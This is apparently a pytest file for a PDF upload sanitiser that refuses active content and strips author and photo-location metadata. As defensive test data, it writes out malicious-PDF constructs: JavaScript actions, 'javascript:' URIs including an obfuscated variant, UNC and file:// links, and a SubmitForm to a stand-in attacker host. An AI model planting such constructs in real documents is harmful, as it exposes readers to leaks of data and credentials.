"""PDF files that people send: those that run something are refused, and the author's name is removed."""

import zlib
from io import BytesIO

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, NameObject, TextStringObject

from fiches.media.documents import check_document
from tests import pictures
from tests.fiches.made_documents import (
    AUTHOR,
    INCOMPLETE,
    WRAPPINGS,
    action,
    dictionary,
    pdf,
    pdf_with_author,
    pdf_with_photograph,
    photograph_in,
    refusal_of,
    sent,
    size_and_pixels,
)

ACTIVE = [
    "Ce PDF contient un élément refusé\u00a0: programme, autre fichier, film, adresse ouverte sans clic ou lien dangereux. "
    "Imprimez-le dans un nouveau PDF, puis envoyez-le."
]


@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": action("/JavaScript", JS=TextStringObject("app.alert(1)"))},
        {"Names": dictionary(JavaScript=dictionary(Names=ArrayObject([action("/JavaScript")])))},
        {"OpenAction": action("/GoTo", Next=action("/Launch"))},
        {"Names": dictionary(EmbeddedFiles=dictionary())},
        {"AF": ArrayObject([dictionary(EF=dictionary())])},
        {"Marked": dictionary(Subtype=NameObject("/RichMedia"))},
        {"AcroForm": dictionary(XFA=ArrayObject())},
    ],
)
def test_a_pdf_in_which_something_runs_is_refused_and_says_so(root):
    assert refusal_of("dossier.pdf", pdf(**root)) == ACTIVE


@pytest.mark.parametrize(
    "acts",
    [
        action("/GoToR", F=TextStringObject("\\\\attaquant.example\\partage\\x.pdf")),
        action("/SubmitForm", F=TextStringObject("https://attaquant.example/")),
        action("/ImportData", F=TextStringObject("x.fdf")),
        action("/URI", URI=TextStringObject("javascript:alert(1)")),
        action("/URI", URI=TextStringObject(" Java\nScript:alert(1)")),
        action("/URI", URI=TextStringObject("file://attaquant.example/partage/x")),
        action("/URI", URI=TextStringObject("\\\\attaquant.example\\partage")),
    ],
    ids=["GoToR", "SubmitForm", "ImportData", "javascript", "javascript in two lines", "file", "share"],
)
def test_a_link_that_acts_is_refused_wherever_it_stands_in_a_pdf(acts):
    link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
    for root in [{"Marked": link}] + [{"OpenAction": acts}] * (acts["/S"] != "/URI"):
        assert refusal_of("dossier.pdf", pdf(**root)) == ACTIVE


def test_a_link_to_a_site_a_mailbox_or_a_page_of_the_pdf_is_kept():
    for acts in (
        action("/URI", URI=TextStringObject("https://exemple.fr/?a=javascript:")),
        action("/URI", URI=TextStringObject("mailto:jeanne@exemple.fr")),
        action("/URI", URI=TextStringObject("tel:+33381000000")),
        action("/URI", URI=TextStringObject("www.exemple.fr/page")),
        action("/GoTo", D=ArrayObject()),
    ):
        link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=acts)
        kept = PdfReader(check_document(sent("dossier.pdf", pdf(Marked=link)))).root_object["/Marked"]
        assert kept["/A"] == acts


def opens(address="https://exemple.fr/", **values):
    return action("/URI", URI=TextStringObject(address), **values)


@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": opens()},
        {"OpenAction": opens("www.exemple.fr")},
        {"OpenAction": action("/GoTo", Next=ArrayObject([action("/Named"), action("/GoTo", Next=opens())]))},
        {"AA": dictionary(WC=opens())},
        {"Marked": dictionary(Type=NameObject("/Page"), AA=dictionary(O=opens()))},
        {"Marked": dictionary(Subtype=NameObject("/Widget"), AA=dictionary(E=action("/GoTo"), PO=opens()))},
        {"Marked": dictionary(FT=NameObject("/Tx"), AA=dictionary(K=opens()))},
    ],
    ids=["opening", "without scheme", "after another", "closing", "page", "annotation", "field"],
)
def test_a_pdf_that_opens_an_address_without_a_click_is_refused(root):
    assert refusal_of("dossier.pdf", pdf(**root)) == ACTIVE


def test_a_pdf_that_opens_at_one_of_its_pages_is_kept_whatever_links_are_there():
    link = dictionary(Subtype=NameObject("/Link"), Rect=ArrayObject(), A=opens())
    page = dictionary(Type=NameObject("/Page"), Annots=ArrayObject([link]))
    place = ArrayObject([page, NameObject("/Fit")])
    for start in (place, action("/GoTo", D=place), action("/Named", N=NameObject("/FirstPage"))):
        assert "/OpenAction" in PdfReader(check_document(sent("dossier.pdf", pdf(OpenAction=start)))).root_object


@pytest.mark.parametrize(
    "acts",
    [
        {"S": NameObject("/Launch")},
        {"S": NameObject("/JavaScript")},
        {"S": NameObject("/SubmitForm")},
        {"S": NameObject("/URI"), "URI": TextStringObject("https://exemple.fr/")},
    ],
)
def test_an_action_whose_kind_stands_in_another_object_is_seen(acts):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.root_object[NameObject("/OpenAction")] = dictionary(**{k: writer._add_object(v) for k, v in acts.items()})
    writer.write(output := BytesIO())
    assert refusal_of("dossier.pdf", output.getvalue()) == ACTIVE


def test_a_pdf_no_longer_tells_who_wrote_it():
    told = pdf_with_author()
    assert AUTHOR in told and pictures.SECRET in told
    data = check_document(sent("dossier.pdf", told)).read()
    assert AUTHOR not in data and pictures.SECRET not in data
    assert PdfReader(BytesIO(data)).metadata == {"/Title": "Dossier"}


@pytest.mark.parametrize(
    "wrappings", [(), *((name,) for name in WRAPPINGS), ("ASCII85Decode", "FlateDecode")], ids="+".join
)
def test_a_photograph_in_a_pdf_no_longer_tells_where_it_was_taken_however_it_is_wrapped(wrappings):
    wrapped = told = pictures.jpeg_with_position()
    for name in reversed(wrappings):
        wrapped = WRAPPINGS[name](wrapped)
    told_in = pdf_with_photograph(wrapped, *wrappings, "DCTDecode")
    assert pictures.SECRET in photograph_in(told_in)
    photograph = photograph_in(check_document(sent("dossier.pdf", told_in)).read())
    assert pictures.SECRET not in photograph
    assert size_and_pixels(photograph) == size_and_pixels(told)


@pytest.mark.parametrize(
    ("content", "filters"),
    [(b"", ("Crypted", "DCTDecode")), (b"!", ("DCTDecode", "FlateDecode")), (b"Bonjour", ("DCTDecode",))],
    ids=["unknown filter", "not last", "not a JPEG"],
)
def test_a_photograph_that_cannot_be_read_is_refused_and_says_so(content, filters):
    content = content and (content if content == b"Bonjour" else zlib.compress(pictures.jpeg_with_position()))
    assert refusal_of("dossier.pdf", pdf_with_photograph(content or b"x", *filters)) == INCOMPLETE


def test_javascript_whose_name_is_written_in_codes_is_seen():
    hidden = pdf(OpenAction=action("/JavaScript")).replace(b"/JavaScript", b"/J#61v#61Script")
    assert refusal_of("dossier.pdf", hidden) == ACTIVE
